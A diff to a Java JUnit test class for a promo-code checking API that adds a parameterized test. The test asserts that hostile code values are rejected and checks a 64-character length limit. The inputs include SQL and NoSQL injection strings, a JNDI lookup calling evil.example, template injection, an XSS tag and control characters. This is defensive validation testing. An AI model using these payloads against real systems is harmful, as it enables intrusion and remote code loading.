@@ -10,10 +10,12 @@ import java.time.Instant;
 import java.util.Comparator;
 import java.util.HashSet;
 import java.util.List;
+import java.util.Map;
 import java.util.UUID;
 import java.util.stream.Stream;
 import orderdesk.contracts.benefit.BenefitEvent.CouponIssued;
 import orderdesk.contracts.benefit.BenefitEvent.GuessingSuspected;
+import orderdesk.contracts.shared.Wire;
 import orderdesk.platform.access.Role;
 import orderdesk.platform.simulator.SimulatedStore;
 import orderdesk.platform.testing.Http;
@@ -24,6 +26,7 @@ import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.context.SpringBootTest;
 import org.springframework.http.MediaType;
@@ -199,6 +202,31 @@ class PromoApiTests {
                 .isEqualTo("{\"usable\":false}");
         assertThat(json(check(blocked, operator())).get("reason").asString()).isEqualTo("blocked");
         assertThat(json(check(unknown, operator())).get("reason").asString()).isEqualTo("unknown");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "",
+                "AB-1",
+                "' OR 1=1 --",
+                "{\"$ne\": null}",
+                "${jndi:ldap://evil.example/a}",
+                "{{certificate.code}}",
+                "<img src=x onerror=alert(1)>",
+                "ABCD\u202eEFGH",
+                "ABCD\u0000EFGH"
+            })
+    void hostileCodesAreLookedForNowhere(String code) throws Exception {
+        var body = Wire.mapper().writeValueAsString(Map.of("code", code));
+
+        assertThat(check(body, operator()).getStatus()).isIn(400, 422);
+        assertThat(check("{\"code\":\"%s\"}".formatted("A".repeat(65)), operator())
+                        .getStatus())
+                .isEqualTo(422);
+        assertThat(check("{\"code\":\"%s\"}".formatted("A".repeat(64)), operator())
+                        .getStatus())
+                .isEqualTo(200);
     }
 
     @Test
